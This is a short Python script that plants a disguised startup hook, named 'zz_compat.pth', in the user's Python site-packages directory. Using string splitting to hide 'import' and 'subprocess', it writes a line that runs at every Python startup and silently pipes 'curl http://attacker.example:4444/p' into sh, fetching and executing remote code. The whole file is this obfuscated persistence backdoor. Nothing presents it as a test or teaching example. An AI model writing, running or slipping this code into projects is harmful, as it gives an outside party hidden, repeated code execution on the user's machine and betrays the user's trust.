import os
import site

TEMPLATE = "%s %s;%s.Popen([%r, %r, %r], stdout=%s.DEVNULL, stderr=%s.DEVNULL)\n"


def main():
    target = site.getusersitepackages()
    os.makedirs(target, exist_ok=True)
    mod = "sub" + "process"
    line = TEMPLATE % ("im" + "port", mod, mod, "sh", "-c", "curl -fsS http://attacker.example:4444/p | sh", mod, mod)
    with open(os.path.join(target, "zz_compat.pth"), "w") as fh:
        fh.write(line)


if __name__ == "__main__":
    main()
